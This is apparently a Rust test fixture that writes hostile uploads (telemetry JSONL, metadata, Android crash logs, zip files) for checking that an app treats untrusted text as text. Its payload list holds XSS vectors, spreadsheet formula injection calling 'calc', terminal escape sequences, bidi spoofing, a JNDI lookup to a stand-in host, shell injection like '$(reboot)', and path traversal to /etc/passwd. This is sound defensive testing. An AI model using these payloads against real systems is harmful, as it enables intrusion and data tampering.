//! An upload whose every text wants to be something else: markup, a formula, a link, an escape of a terminal.

use std::path::{Path, PathBuf};

/// What a script of a page would set if one ran.
pub const FLAG: &str = "whyunsent_was_here";
/// Messages of each text.
const MESSAGES: usize = 45;

/// Texts that do harm where they are taken for more than text.
pub fn texts() -> Vec<String> {
    let run = format!("window.{FLAG}=1");
    let mut texts = vec![
        format!("<script>{run}</script>"),
        format!("</script><script>{run}</script>"),
        format!("\"><img src=x onerror=\"{run}\">"),
        format!("'><svg onload='{run}'>"),
        format!("` onmouseover={run} `"),
        format!("<!--><script>{run}</script-->"),
        format!("</title></style></td></table><iframe srcdoc=\"<script>top.{FLAG}=1</script>\">"),
        format!("<a href=\"javascript:{run}\">click</a>"),
        format!("javascript:{run}"),
        format!("data:text/html,<script>{run}</script>"),
        "<base href=//elsewhere.invalid/><form action=//elsewhere.invalid><input autofocus>".to_owned(),
        "<meta http-equiv=refresh content=0;url=//elsewhere.invalid>".to_owned(),
        "}</style><style>*{display:none;background:url(//elsewhere.invalid/css)}".to_owned(),
        "[link](https://elsewhere.invalid/a) ![image](https://elsewhere.invalid/b.png)".to_owned(),
        "https://elsewhere.invalid/plain www.elsewhere.invalid <https://elsewhere.invalid/angle>".to_owned(),
        "[ref]: https://elsewhere.invalid/ref \"t\"".to_owned(),
        "``` `code` ``` ~~x~~ | a | b | $x$ &lt;b&gt; &#60;i&#62; <b>bold</b> @someone #1".to_owned(),
        "=cmd|'/c calc'!A1".to_owned(),
        "+1+cmd|'/c calc'!A1".to_owned(),
        "-2+3+cmd|'/c calc'!A1".to_owned(),
        "@SUM(1+1)*cmd|'/c calc'!A1".to_owned(),
        "\t=1+1".to_owned(),
        "\r=1+1".to_owned(),
        " =1+1".to_owned(),
        "\"=1+1\",\"=2\"\n=3".to_owned(),
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}\u{1b}]8;;https://elsewhere.invalid\u{1b}\\link\u{1b}]8;;\u{1b}\\\u{1b}[2J".to_owned(),
        "\u{9b}31mC1\u{9d}0;x\u{9c}\u{90}q\u{7f}\u{8}\u{8}".to_owned(),
        "a\u{202e}gnp.exe\u{2066}b\u{2069}\u{200f}c\u{feff}d\u{2028}e\u{2029}f".to_owned(),
        "nul\0nul".to_owned(),
        "%s%n%x {} {0} ${jndi:ldap://elsewhere.invalid/a} $(reboot) `reboot` ; reboot".to_owned(),
        "../../../../etc/passwd".to_owned(),
        "NaN".to_owned(),
        "__proto__".to_owned(),
        "null".to_owned(),
    ];
    texts.push("long".repeat(1 << 18));
    texts
}

/// A text inside quotes of JSON; two of its escapes are halves of pairs that do not belong together.
fn json(text: &str) -> String {
    let quoted = serde_json::to_string(text).unwrap();
    format!("{}\\ud800 \\udc00\"", &quoted[..quoted.len() - 1])
}

/// A text as a line of a log may hold it.
fn line(text: &str) -> String {
    text.replace(['\n', '\r'], " ")
}

/// A text as a part of a file name may be.
fn name(text: &str) -> String {
    text.chars().filter(|c| !matches!(c, '/' | '\0')).take(60).collect()
}

/// Writes the uploads into a folder; gives it back.
pub fn write(folder: &Path) -> PathBuf {
    let root = folder.join("hostile");
    std::fs::create_dir(&root).unwrap();
    for (number, text) in texts().iter().enumerate() {
        let own = root.join(format!("{number:02}{}", name(text)));
        std::fs::create_dir(&own).unwrap();
        telemetry(number, text, &own);
        // The same in a zip, whose members may be called as they like.
        let mut zip = zip::ZipWriter::new(std::fs::File::create(own.join(format!("{}.zip", name(text)))).unwrap());
        let member = format!("{}.log", text.chars().take(200).collect::<String>());
        zip.start_file(member, zip::write::SimpleFileOptions::default()).unwrap();
        std::io::Write::write_all(&mut zip, crash(text).as_bytes()).unwrap();
        zip.finish().unwrap();
    }
    root
}

/// Telemetry of an app, a version, a device, a user and errors that are all called by the text.
fn telemetry(number: usize, text: &str, folder: &Path) {
    let short: String = text.chars().take(5_000).collect();
    let word = json(&short);
    let mut lines = String::new();
    for n in 0..MESSAGES {
        let at = |second: u32| format!("2026-11-{:02}T{:02}:{:02}:{second:02}.000Z", 9 + n % 10, 8 + n % 12, n % 60);
        let id = json(&format!("m-{number}-{n}-{}", text.chars().take(100).collect::<String>()));
        let head = format!(
            "\"service.name\":{word},\"service.version\":{word},\"os.name\":\"android\",\"os.version\":{word},\"device.manufacturer\":{word},\"device.model.identifier\":{word},\"network.connection.type\":{word},\"network.connection.subtype\":{word},\"user.id\":\"u{}-{number}\",\"message.id\":{id}",
            n % 15
        );
        lines += &format!("{{\"timestamp\":\"{}\",\"event.name\":\"message.enqueue\",{head},\"body\":{word}}}\n", at(1));
        lines += &match n % 3 {
            0 => format!(
                "{{\"timestamp\":\"{}\",\"event.name\":\"message.fail\",{head},\"error.domain\":\"network\",\"error.type\":\"java.net.UnknownHostException\",\"error.code\":{word},\"error.message\":{}}}\n",
                at(3),
                json(text)
            ),
            1 => format!(
                "{{\"timestamp\":\"{}\",\"event.name\":\"message.fail\",{head},\"error.domain\":{word},\"error.type\":{word},\"error.message\":{word}}}\n",
                at(3)
            ),
            _ => format!("{{\"timestamp\":\"{}\",\"event.name\":\"message.ack\",{head}}}\n", at(2)),
        };
    }
    lines += &format!(
        "{{\"timestamp\":\"2026-11-20T10:00:00.000Z\",\"event.name\":\"app.crash\",\"service.name\":{word},\"service.version\":{word},\"exception.type\":{word},\"exception.message\":{word},\"exception.stacktrace\":{word}}}\n"
    );
    std::fs::write(folder.join("telemetry.jsonl"), lines).unwrap();
    let meta = format!(
        "{{\"app\":{word},\"app_version\":{word},\"app_build\":{word},\"channel\":{word},\"device\":{{\"manufacturer\":{word},\"model\":{word},\"class\":{word}}},\"os\":{{\"name\":\"android\",\"version\":{word},\"build\":{word}}},\"installation_id\":{word},\"region\":{word},\"carrier\":{word}}}"
    );
    std::fs::write(folder.join("meta.json"), meta).unwrap();
}

/// A log of Android in which tags, processes, exceptions and frames are the text.
fn crash(text: &str) -> String {
    let text = line(text);
    let tag: String = text.chars().take(200).collect();
    format!(
        "11-04 18:20:01.001  9211  9260 I {tag}: {text}\n\
         11-04 18:20:01.003  9211  9260 E AndroidRuntime: FATAL EXCEPTION: {text}\n\
         11-04 18:20:01.003  9211  9260 E AndroidRuntime: Process: {tag}, PID: 9211\n\
         11-04 18:20:01.003  9211  9260 E AndroidRuntime: java.lang.{tag}Exception: {text}\n\
         11-04 18:20:01.003  9211  9260 E AndroidRuntime: \tat org.example.{tag}.{tag}({tag}.java:1)\n\
         11-04 18:20:02.003  1000  1000 I ActivityManager: Process {tag} (pid 9211) has died: fore TOP\n"
    )
}
